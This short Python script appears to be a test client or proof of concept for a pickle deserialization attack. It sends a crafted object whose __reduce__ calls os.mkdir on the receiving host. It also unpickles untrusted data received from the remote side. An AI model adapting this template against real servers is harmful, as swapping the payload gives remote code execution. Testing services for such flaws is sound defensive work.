# Sends a pickle that would create a file if it were executed; then a request nobody should read.
# host, port, file.
import os
import pickle
import socket
import sys


class Evil:
    def __reduce__(self):
        return os.mkdir, (sys.argv[3],)


client = socket.create_connection((sys.argv[1], int(sys.argv[2])))
pickle.load(client.makefile("rb"))
client.sendall(pickle.dumps(Evil()))
print(client.recv(4096))
